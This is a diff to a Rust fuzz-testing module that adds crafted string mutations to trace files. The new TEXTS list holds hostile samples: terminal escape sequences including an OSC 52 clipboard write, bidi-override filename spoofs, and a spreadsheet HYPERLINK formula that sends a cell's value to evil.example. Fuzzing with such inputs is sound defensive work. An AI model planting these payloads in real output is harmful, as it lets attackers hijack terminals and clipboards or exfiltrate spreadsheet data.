@@ -1,6 +1,7 @@
 //! Inputs for the trace targets: real and synthetic traces (the seeds),
 //! changed the ways a damaged or hostile file differs from a good one —
-//! flipped bits, a cut, out-of-range and wrong-typed numbers, deep nesting,
+//! flipped bits, a cut, out-of-range and wrong-typed numbers, terminal
+//! escapes and bidi overrides in its strings, deep nesting,
 //! long lines, invalid UTF-8, lines repeated, swapped or dropped, runs of
 //! garbage — plus raw bytes.
 
@@ -33,6 +34,10 @@ pub fn seeds() -> Vec<(&'static str, Vec<u8>)> {
             first_lines(&synth::to_jsonl(&synth::seed_staged()), 30),
         ),
         ("busy", synth::to_jsonl(&synth::busy_trace(12, 8))),
+        (
+            "hostile-text",
+            first_lines(&synth::to_jsonl(&synth::hostile_text()), 60),
+        ),
     ]
 }
 
@@ -77,6 +82,21 @@ pub const VALUES: [&str; 26] = [
     "[]",
     "{}",
     "\"\\ud800\"",
+];
+
+/// Strings a crafted trace holds (JSON, quotes included): an OSC 52
+/// clipboard write, a screen clear, C1 CSI, bidi overrides escaped and raw, a
+/// line separator, a tag, a formula.
+pub const TEXTS: [&str; 9] = [
+    r#""\u001b]52;c;ZXZpbA==\u0007""#,
+    r#""\u001b[2J""#,
+    r#""\u009b31mred""#,
+    r#""evil\u202egpj.exe""#,
+    "\"evil\u{202e}gpj.exe\u{2066}\"",
+    r#""a\u2028b""#,
+    "\"tag\u{e0041}\"",
+    r#""=HYPERLINK(\"http:evil.example?d=\"&A2,\"open\")""#,
+    r#""\t-1""#,
 ];
 
 /// A line that is not a record.
@@ -170,6 +190,11 @@ pub enum Mutation {
         with: Garbage,
         count: usize,
     },
+    /// A string value (not a key) replaced by one of [`TEXTS`].
+    SetText {
+        which: Index,
+        value: &'static str,
+    },
     DuplicateLine {
         line: Index,
     },
@@ -192,6 +217,8 @@ fn mutation() -> impl Strategy<Value = Mutation> {
         1 => any::<Index>().prop_map(|at| Mutation::Truncate { at }),
         6 => (any::<Index>(), select(&VALUES[..]))
             .prop_map(|(which, value)| Mutation::SetNumber { which, value }),
+        2 => (any::<Index>(), select(&TEXTS[..]))
+            .prop_map(|(which, value)| Mutation::SetText { which, value }),
         2 => (any::<Index>(), garbage()).prop_map(|(line, with)| Mutation::ReplaceLine { line, with }),
         2 => (any::<Index>(), garbage()).prop_map(|(line, with)| Mutation::InsertLine { line, with }),
         1 => (any::<Index>(), garbage(), 1usize..2500)
@@ -242,6 +269,30 @@ fn numbers(bytes: &[u8]) -> Vec<std::ops::Range<usize>> {
     out
 }
 
+/// Byte ranges of the JSON strings that are values (after `:`, `,` or `[`
+/// and not followed by `:`), quotes included.
+fn strings(bytes: &[u8]) -> Vec<std::ops::Range<usize>> {
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < bytes.len() {
+        if bytes[i] != b'"' {
+            i += 1;
+            continue;
+        }
+        let mut end = i + 1;
+        while end < bytes.len() && bytes[end] != b'"' {
+            end += if bytes[end] == b'\\' { 2 } else { 1 };
+        }
+        let end = (end + 1).min(bytes.len());
+        let value = i > 0 && matches!(bytes[i - 1], b':' | b',' | b'[');
+        if value && bytes.get(end) != Some(&b':') {
+            out.push(i..end);
+        }
+        i = end;
+    }
+    out
+}
+
 fn with_newline(mut line: Vec<u8>) -> Vec<u8> {
     line.push(b'\n');
     line
@@ -253,6 +304,7 @@ impl Mutation {
             Mutation::FlipBit { .. }
             | Mutation::Truncate { .. }
             | Mutation::SetNumber { .. }
+            | Mutation::SetText { .. }
             | Mutation::InsertBytes { .. } => Vec::new(),
             _ => lines(b),
         };
@@ -272,6 +324,12 @@ impl Mutation {
                 let ns = numbers(b);
                 if !ns.is_empty() {
                     b.splice(ns[which.index(ns.len())].clone(), value.bytes());
+                }
+            }
+            Mutation::SetText { which, value } => {
+                let ss = strings(b);
+                if !ss.is_empty() {
+                    b.splice(ss[which.index(ss.len())].clone(), value.bytes());
                 }
             }
             Mutation::ReplaceLine { line: l, with } => {
